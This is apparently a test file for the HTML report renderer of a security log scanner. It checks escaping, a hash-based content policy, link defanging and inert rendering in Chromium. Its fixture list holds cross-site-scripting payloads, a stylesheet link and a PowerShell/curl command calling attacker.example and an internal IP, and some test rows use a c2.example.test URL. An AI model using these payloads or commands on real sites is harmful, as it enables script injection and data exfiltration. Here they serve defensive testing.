import { createHash } from "node:crypto";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { CardAccount, Finding, ScanAccount } from "../src/case/finding.js";
import type { Column } from "../src/plan/types.js";
import { render } from "../src/report/render.js";
import { CHROMIUM, launch } from "./browser.js";

const COLUMNS: readonly Column[] = [
  { name: "Timestamp", type: "datetime" },
  { name: "DeviceName", type: "string" },
  { name: "ActionType", type: "string" },
  { name: "ProcessCommandLine", type: "string" },
];
/** 2026-03-02T00:00:00Z */
const START = 639_080_064_000_000_000n;
const MINUTE = 600_000_000n;

/** Each would run, end its element, reorder the line or fetch something, where it is not escaped for its place. */
const HOSTILE = [
  `<script>window.owned = 1</script>`,
  `</script><script>window.owned = 2</script>`,
  `<!--<script>`,
  `"><img src=x onerror="window.owned = 3">`,
  `' onmouseover='window.owned = 4`,
  `<svg onload=window.owned=5><title></title>`,
  `</style><link rel=stylesheet href="http://attacker.example/a.css">`,
  `before\u2028after\u2029end`,
  `cmd \u202Eexe.txt\u202C \u0007 \u001b[31m \u0000`,
  `powershell -c "iwr https://attacker.example/a?b=1" & curl http://10.0.0.7/x`,
  `javascript:alert(1)`,
  `A`.repeat(1 << 20) + `</script>`,
  "\ud800 alone",
  "&lt;b&gt; &amp; {{x}} $" + "{x}",
];

function hostileAccount(): ScanAccount {
  return accountOf(
    HOSTILE.map((text, at) => [START + BigInt(at) * MINUTE, text, text, text]),
    HOSTILE,
  );
}

function accountOf(values: readonly (readonly (bigint | string)[])[], texts: readonly string[]): ScanAccount {
  const cards = texts.map((text): CardAccount => ({
    id: text,
    title: text,
    level: "high",
    levelSource: "card",
    attack: [{ tactic: text, tacticName: text, technique: text, name: text }],
    verdict: "cannot-tell",
    reasons: [text],
    findings: 1,
    columns: COLUMNS,
    computed: [],
    references: [text],
  }));
  const finding = (row: readonly (bigint | string)[], at: number): Finding => ({
    // letters alone, so that a number that is searched for is not in it
    id: at.toString().replace(/\d/g, (digit) => "abcdefghij"[Number(digit)] ?? ""),
    card: texts[at % texts.length] ?? "",
    level: at % 2 === 0 ? "high" : "low",
    columns: COLUMNS,
    values: row,
    sources: [{ path: texts[0] ?? "", row: 1 }],
    sourceCount: 1,
  });
  return {
    run: {
      version: "1.2.3",
      engine: { name: "duckdb", version: "v1" },
      argv: ["scan", ...texts],
      now: START,
      window: "all",
      from: null,
      to: null,
      lifted: texts.map((text) => ({ card: text, condition: text })),
    },
    inputs: texts.map((text) => ({
      path: text,
      sha256: "00ff",
      bytes: 1234,
      format: "csv",
      table: text,
      rows: { read: 3, imported: 2, rejected: 1, duplicate: 0 },
      firstEvent: START,
      lastEvent: START + MINUTE,
      notes: [text],
      examined: false,
    })),
    cards,
    findings: async function* () {
      yield* await Promise.resolve(values.map(finding));
    },
  };
}

async function htmlOf(account: ScanAccount): Promise<string> {
  let html = "";
  for await (const part of render(account, "html", { width: 100, colour: false })) html += String(part);
  return html;
}

const contentOf = (html: string, tag: string): string[] =>
  [...html.matchAll(new RegExp(`<${tag}>(.*?)</${tag}>`, "gs"))].map((match) => match[1] ?? "");

describe("the text of a report", () => {
  let html = "";
  beforeAll(async () => {
    html = await htmlOf(hostileAccount());
  });

  it("has a policy that lets nothing run or load but its own script and style, by their hashes", () => {
    const hash = (text = ""): string => `sha256-${createHash("sha256").update(text).digest("base64")}`;
    const [script, ...others] = contentOf(html, "script");
    expect(others).toEqual([]);
    expect(/Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1]).toBe(
      `default-src 'none'; script-src '${hash(script)}'; style-src '${hash(contentOf(html, "style")[0])}'; base-uri 'none'; form-action 'none'`,
    );
  });

  it("holds as many elements that matter as the page itself has", async () => {
    const calm = await htmlOf(
      accountOf(
        HOSTILE.map((_, at) => [START + BigInt(at) * MINUTE, `d${at}`, `a${at}`, "x"]),
        HOSTILE.map((_, at) => `c${at}`),
      ),
    );
    const tags = (text: string): string[] =>
      [...text.matchAll(/<(script|style|img|link|iframe|a|base|object)\b/gi)].map(([tag]) => tag);
    expect(tags(html)).toEqual(tags(calm));
  });

  it("has no live link, no inline handler and no character that a reader's eye obeys", () => {
    expect([...html.matchAll(/\bhref="([^"]*)"/g)].filter(([, to]) => !to?.startsWith("#"))).toEqual([]);
    expect(html).not.toMatch(/https?:\/\//);
    expect(html).toContain("hxxps://attacker[.]example/a?b=1");
    expect(html).toContain("hxxp://10[.]0[.]0[.]7/x");
    expect(html).not.toMatch(/<[^>]*\s(on\w+|style)=/);
    expect(html).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/);
    expect(html).not.toMatch(/\p{Cs}/u);
  });

  it("cuts a value of a megabyte and says so", () => {
    expect(html).toContain("[cut: 1048585 characters, whole in JSON Lines]");
  });

  it("holds each text that many findings share once", async () => {
    const rows = Array.from({ length: 1000 }, () => [START, "host", "Act", "shared command line"]);
    expect((await htmlOf(accountOf(rows, ["c"]))).split("shared command line")).toHaveLength(2);
  });
});

// what a page does only a browser tells, and not every machine has one
describe.skipIf(CHROMIUM === undefined)("a report in Chromium", () => {
  let browser: Browser;
  let folder: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), "report-page-"));
    browser = await launch();
  });
  afterAll(async () => {
    await browser.close();
    await rm(folder, { recursive: true });
  });

  /** The page, and all that it asked for or complained of. */
  async function open(account: ScanAccount): Promise<{ page: Page; requests: string[]; faults: string[] }> {
    const path = join(folder, "report.html");
    await writeFile(path, await htmlOf(account));
    const page = await browser.newPage();
    const requests: string[] = [];
    const faults: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    page.on("pageerror", (error) => faults.push(error.message));
    page.on("console", (message) => faults.push(message.text()));
    page.on("dialog", () => faults.push("a dialog"));
    await page.goto(pathToFileURL(path).href);
    return { page, requests, faults };
  }

  it("leaves hostile values inert, opened or not, and asks for nothing", async () => {
    const { page, requests, faults } = await open(hostileAccount());
    expect(await page.locator("#rows > tr").count()).toBe(HOSTILE.length);
    await page.evaluate(`for (const button of document.querySelectorAll("#rows .open")) button.click()`);
    await page.locator("#rows .clip").first().hover();
    expect(await page.locator("#rows dl").count()).toBe(HOSTILE.length);
    expect(await page.evaluate("typeof window.owned")).toBe("undefined");
    expect(await page.locator("img, link, iframe, a:not([href^='#'])").count()).toBe(0);
    expect(await page.locator("#rows").innerText()).toContain("<script>window.owned = 1</script>");
    expect(faults).toEqual([]);
    expect(requests.filter((url) => !url.startsWith("file:"))).toEqual([]);
    expect(requests).toHaveLength(1);
    await page.close();
  });

  it("shows the arguments of a command line and where a finding stands", async () => {
    const { page } = await open(accountOf([[START, "host", "Act", `a.exe "b c" d`]], ["e.csv"]));
    await page.locator("#rows .open").click();
    await page.locator("#rows summary").click();
    expect(await page.locator("#rows ol li").allInnerTexts()).toEqual(["a.exe", "b c", "d"]);
    expect(await page.locator("#rows dl").innerText()).toContain("e.csv:1");
    await page.close();
  });

  it("searches, filters, sorts and pages through fifty thousand findings", async () => {
    const rows = Array.from({ length: 50_000 }, (_, at) => [
      START + BigInt(at) * MINUTE,
      `host-${at % 100}`,
      `Action${at % 7}`,
      `run.exe http://c2.example.test/ --number ${at}`,
    ]);
    const { page, faults } = await open(accountOf(rows, ["e.csv"]));
    const count = page.locator("#count");
    expect(await count.innerText()).toBe("50000 findings");
    expect(await page.locator("#rows > tr").count()).toBe(50);
    expect(await page.locator("#rows tr:first-child").innerText()).toContain("--number 0");
    await page.locator("#search").fill("--NUMBER 4999");
    // 4999, 14999, 24999, 34999, 44999, and 49990 to 49999
    await expect.poll(() => count.innerText()).toBe("15 of 50000 findings");
    await page.locator("#search").fill("http://c2.example.test number 49999");
    await expect.poll(() => count.innerText()).toBe("1 of 50000 findings");
    await page.locator("#reset").click();
    await page.locator("#device").selectOption("host-7");
    // one in a hundred; host-7 has odd numbers alone, which are low
    expect(await count.innerText()).toBe("500 of 50000 findings");
    await page.locator("#level").selectOption("high");
    expect(await count.innerText()).toBe("0 of 50000 findings");
    await page.locator("#reset").click();
    await page.locator("th button[data-key=time]").click();
    expect(await page.locator("#rows tr:first-child").innerText()).toContain("--number 49999");
    await page.locator("#next").click();
    expect(await page.locator("#rows tr:first-child").innerText()).toContain("--number 49949");
    expect(await page.locator("#page").innerText()).toBe("page 2 of 1000");
    await page.keyboard.press("/");
    expect(await page.evaluate("document.activeElement.id")).toBe("search");
    expect(faults).toEqual([]);
    await page.close();
  });
});
